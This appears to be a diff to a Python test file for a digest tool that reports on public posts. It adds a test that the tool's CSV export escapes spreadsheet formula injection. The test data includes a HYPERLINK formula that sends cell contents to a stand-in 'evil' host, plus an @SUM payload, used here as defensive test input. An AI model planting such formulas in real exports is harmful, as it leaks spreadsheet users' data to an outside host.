@@ -6,6 +6,7 @@ import email
 import io
 from datetime import date, datetime, timedelta
 
+import pandas as pd
 import pytest
 from aiosmtpd.controller import Controller
 
@@ -157,3 +158,16 @@ def test_cli_previews_through_the_service_when_an_engine_holds_the_file(day_db, 
     assert code == 0 and f"(engine running, service at http://127.0.0.1:{port}; the next digest, so far)" in printed
     assert "daily digest to Tue 3 Nov, 8:00 am" in printed  # by default, the digest whose window holds the clock
     assert "25 different accounts posted the same text" in printed
+
+
+def test_digest_csv_is_formula_safe_with_crlf_rows():
+    """Alert titles and explanations quote public posts: a formula in one stays text, a lone CR stays in its cell."""
+    alerts = pd.DataFrame({"alert_id": [7], "kind": ["narrative"], "title": ['=HYPERLINK("http://evil/?"&A1,"x")'],
+                           "explanation": ["hi\r@SUM(A1)"], "minutes_to_acknowledge": [12.0]})
+    members = pd.DataFrame({"alert_id": [7], "incident_id": [3]})
+    text = digest._csv(alerts, members)
+    assert text.endswith("\r\n") and '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"' in text
+    assert "\"hi\r@SUM(A1)\"" in text  # quoted: a spreadsheet keeps it in one cell (inner text starts with 'hi')
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0]["title"].startswith("'=") and rows[0]["incident_id"] == "3"
+    assert rows[0]["minutes_to_acknowledge"] == "12.0"
